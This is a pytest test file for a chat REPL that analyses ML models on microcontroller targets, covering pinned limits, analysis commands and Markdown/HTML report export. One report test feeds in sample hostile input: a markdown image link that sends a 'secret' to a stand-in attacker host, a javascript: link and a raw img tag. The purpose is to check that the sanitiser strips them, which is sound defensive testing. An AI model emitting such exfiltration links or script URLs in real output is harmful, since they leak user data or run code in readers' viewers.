from __future__ import annotations

import io
import re
from collections.abc import Callable
from pathlib import Path

import pytest

from edgewright.agent.repl.chat import Chat
from edgewright.agent.repl.prompt import pinned
from edgewright.agent.repl.screen import PlainScreen
from edgewright.agent.repl.state import ChatState
from edgewright.agent.sessions.session import OpenSession
from edgewright.agent.sessions.transcript import Transcript
from edgewright.agent.workspace import Workspace
from edgewright.tools.model_formats.writer.save import save_tflite
from edgewright.tools.model_zoo.named import build_architecture
from stubs.fake_conversation import FakeConversation, calls, says

Tell = Callable[[str], str]
KEY = "canary-0123456789-of-a-report"


@pytest.fixture
def state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> ChatState:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("COLUMNS", "100")
    script = [*calls("plan_memory", {}, model="kws", target="stm32h743zi"), *says(f"It fits. <b>{KEY}</b>")]
    return ChatState(
        Workspace(tmp_path), FakeConversation(script), OpenSession(Transcript(tmp_path / "talk.db"))
    )


@pytest.fixture
def tell(state: ChatState) -> Tell:
    out = io.StringIO()
    chat = Chat(state, PlainScreen(out))

    def take(line: str) -> str:
        out.seek(0)
        out.truncate()
        chat.take(line)
        return out.getvalue()

    return take


class TestLimits:
    def test_pinned_limits_stand_in_the_prompt_and_in_what_the_model_is_shown(
        self, tell: Tell, state: ChatState
    ) -> None:
        tell("/model kws")
        assert tell("/limits 50ms 256KiB 20fps") == "Limits: latency ≤ 50 ms, rate ≥ 20 /s, RAM ≤ 256 KiB\n"
        assert pinned(state.workspace) == "kws (latency ≤ 50 ms, rate ≥ 20 /s, RAM ≤ 256 KiB)"
        assert state.workspace.context["limits"] == "latency_ms=50 ram_bytes=262144 rate_hz=20"

    def test_a_check_without_limits_uses_the_pinned_ones_and_its_own_win(self, tell: Tell) -> None:
        tell("/model kws")
        tell("/target stm32h743zi")
        tell("/limits 1us")
        assert "FAIL" in tell("/check")
        assert "FAIL" in tell("/check 1MiB")
        assert "FAIL" not in tell("/check 10s")
        tell("/limits none")
        assert "FAIL" not in tell("/check")

    def test_a_limit_that_cannot_be_meant_keeps_the_pinned_ones(self, tell: Tell, state: ChatState) -> None:
        tell("/limits 50ms")
        assert "no limit" in tell("/limits soon")
        assert state.workspace.limits == {"latency_ms": 50.0}

    def test_limits_go_with_a_conversation_that_is_gone_on_with(self, tell: Tell, state: ChatState) -> None:
        tell("/limits 50ms")
        assert state.workspace.pinned["limits"] == {"latency_ms": 50.0}


class TestCommands:
    def test_what_is_not_pinned_is_what_the_last_question_was_about(self, tell: Tell) -> None:
        assert "No model was named" in tell("/memory")
        tell("Does kws fit on an h743?")
        assert "Memory on stm32h743zi" in tell("/memory")

    @pytest.mark.parametrize(
        ("line", "told"),
        [
            ("/estimate kws stm32h743zi", "Latency, as a bar"),
            ("/memory kws stm32h743zi", "Memory alive by operator"),
            ("/timeline kws stm32h743zi", "Timeline on stm32h743zi"),
            ("/optimize kws:int8 stm32h743zi", "prune-50"),
        ],
    )
    def test_an_analysis_is_one_line_away(self, tell: Tell, line: str, told: str) -> None:
        assert told in tell(line)

    def test_an_analysis_fits_the_columns_of_the_terminal(
        self, tell: Tell, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("COLUMNS", "80")
        for line in ("/estimate", "/roofline", "/memory", "/recommend 50ms", "/compare esp32-s3 nrf52840"):
            tell("/model kws")
            tell("/target stm32h743zi")
            words = [one for one in tell(line).splitlines() if not one.startswith("    ")]  # else code
            assert max(map(len, words)) <= 80, line

    def test_one_target_is_compared_with_the_pinned_one(self, tell: Tell) -> None:
        tell("/model kws")
        assert "two targets" in tell("/compare esp32-s3")
        tell("/target stm32h743zi")
        told = tell("/compare esp32-s3")
        assert "stm32h743zi" in told
        assert "esp32-s3" in told


class TestReport:
    def test_a_page_holds_answers_and_analyses_in_order_and_loads_nothing(
        self, tell: Tell, state: ChatState, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("SOME_API_KEY", KEY)
        save_tflite(build_architecture("kws", dtype="int8"), tmp_path / "kws.tflite")
        tell("/model kws.tflite")
        tell("/inspect")
        tell("Does it fit?")
        assert "Wrote 1 answers and 1 analyses" in tell("/report page.html")
        page = (tmp_path / "page.html").read_text()
        assert page.index("/inspect") < page.index("Does it fit?") < page.index("It fits.")
        assert re.search(r"SHA-256 [0-9a-f]{64}", page)
        said = page[page.index('<section id="said">') : page.index("</section>")]
        assert "<b>" not in said
        assert KEY not in page
        assert not re.search(r"src=|href=|https?:", said)

    def test_a_page_of_a_chat_about_targets_shows_the_model_on_each(self, tell: Tell, tmp_path: Path) -> None:
        tell("/model kws")
        tell("/target nrf52840")
        tell("/memory")
        tell("/report page.html")
        page = (tmp_path / "page.html").read_text()
        assert page.index("/memory") < page.index('class="deployment"')
        assert "on nrf52840 with" in page
        assert '<section id="said">' in page

    def test_a_report_overwrites_nothing_and_says_what_it_cannot_write(
        self, tell: Tell, tmp_path: Path
    ) -> None:
        assert "nothing to report" in tell("/report page.md")
        tell("/inspect kws")
        tell("/report page.md")
        before = (tmp_path / "page.md").read_text()
        assert "exists" in tell("/report page.md")
        assert "neither .md nor .html" in tell("/report page.pdf")
        assert (tmp_path / "page.md").read_text() == before

    def test_remote_images_and_links_of_an_answer_stay_text(self, tmp_path: Path) -> None:
        from edgewright.agent.repl.chat_report import as_html

        page = as_html(
            "![x](https://evil.example/?q=secret) [y](javascript:alert(1)) <img src=z> <https://a.b>"
        )
        assert "<img" not in page
        assert "<a " not in page


def test_an_answer_in_a_report_keeps_its_marks(tell: Tell, state: ChatState, tmp_path: Path) -> None:
    state.conversation = FakeConversation(says("It takes 9 ms ⚠ not from a tool.", ungrounded=("9 ms",)))
    tell("How long?")
    tell("/report page.md")
    assert "9 ms ⚠ not from a tool" in (tmp_path / "page.md").read_text()
